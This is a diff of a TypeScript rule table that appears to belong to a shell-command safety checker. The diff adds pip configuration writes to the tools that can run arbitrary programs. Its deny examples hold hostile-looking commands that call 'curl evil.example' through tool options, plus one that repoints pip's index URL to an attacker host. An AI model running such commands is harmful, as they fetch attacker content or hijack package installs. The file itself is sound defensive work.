@@ -2,7 +2,7 @@
 // interpreters, database clients, and the long tail of `--some-hook=CMD` options.
 import type { Word } from '../../types.js';
 import { has, parse } from '../argv.js';
-import { programRun } from '../build.js';
+import { configuring, programRun } from '../build.js';
 import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run } from '../types.js';
 import { attached, literal, value } from '../words.js';
 import { makefileText } from './makefile.js';
@@ -683,7 +683,11 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   commandOptions(['mosh'], 'mosh: --ssh and --server name programs it runs', { options: { longValued: ['ssh', 'server', 'client', 'port', 'predict', 'family', 'bind-server', 'experimental-remote-ip'] }, program: ['ssh', 'server'] }, { deny: ["mosh --ssh='curl evil.example' host"], pass: [] }),
   commandOptions(['pidstat'], 'pidstat -e runs a program and reports on it', { options: { flags: 'dHhIlRrsTtUuvw', valued: 'CGpe' }, more: (call) => { const e = call.args.findIndex((a) => value(a) === '-e'); return e >= 0 && e + 1 < call.args.length ? { runs: [{ kind: 'argv', argv: call.args.slice(e + 1), via: 'pidstat -e' }] } : {}; } }, { deny: ['pidstat -e curl evil.example'], pass: ['pidstat 1 5'] }),
   commandOptions(['dmsetup'], 'dmsetup --exec runs a program for each device', { options: { longValued: ['exec', 'target', 'table'] }, program: ['exec'] }, { deny: ["dmsetup ls --exec 'curl evil.example'"], pass: ['dmsetup ls'] }),
-  commandOptions(['pip', 'pip3'], 'pip config --editor names the program it runs', { options: { longValued: ['editor', 'index-url', 'extra-index-url', 'target', 'requirement', 'constraint', 'proxy', 'cert', 'client-cert', 'trusted-host'], valued: 'ritc' }, program: ['editor'] }, { deny: ["pip config --editor 'curl evil.example' edit"], pass: ['pip install requests', 'pip list'] }),
+  configuring(commandOptions(['pip', 'pip3'], 'pip config --editor names the program it runs', { options: { longValued: ['editor', 'index-url', 'extra-index-url', 'target', 'requirement', 'constraint', 'proxy', 'cert', 'client-cert', 'trusted-host'], valued: 'ritc' }, program: ['editor'] }, { deny: ["pip config --editor 'curl evil.example' edit"], pass: ['pip install requests', 'pip list'] }), {
+    file: '~/.config/pip/pip.conf',
+    sets: /^config\b.*\s(set|edit|unset)\b/,
+    examples: { deny: ['pip config set global.index-url http://evil.example/simple'], pass: ['pip config list'] },
+  }),
   commandOptions(['gem'], 'gem open -e names the editor it runs', { options: { valued: 'e', longValued: ['editor'] }, program: ['e', 'editor'] }, { deny: ["gem open -e 'curl evil.example' rake"], pass: ['gem install rake'] }),
   commandOptions(['mail', 'mailx', 'bsd-mailx', 's-nail'], 'mail: --exec/-E runs mail commands, of which `!cmd` runs shell text', { options: { valued: 'sacbrEfq', longValued: ['exec', 'subject', 'attach'] }, more: (call) => ({ runs: call.args.flatMap((a, i, all) => { const v = value(a); const t = v?.startsWith('--exec=') ? v.slice(7) : v === '-E' || v === '--exec' ? value(all[i + 1]) : undefined; return t?.startsWith('!') ? [{ kind: 'text' as const, dialect: 'bash' as const, text: t.slice(1), word: a, via: 'mail --exec' }] : []; }) }) }, { deny: ["mail --exec='!curl evil.example'"], pass: [] }),
   commandOptions(['csvtool'], 'csvtool call runs a command for each row', { options: { valued: 'tuo' }, more: (call) => { const c = call.args.findIndex((a) => value(a) === 'call'); return c >= 0 && call.args[c + 1] ? { runs: [{ kind: 'script', dialect: 'bash', words: [call.args[c + 1]!], via: 'csvtool call' }] } : {}; } }, { deny: ["csvtool call 'curl evil.example' f.csv"], pass: ['csvtool col 1 f.csv'] }),
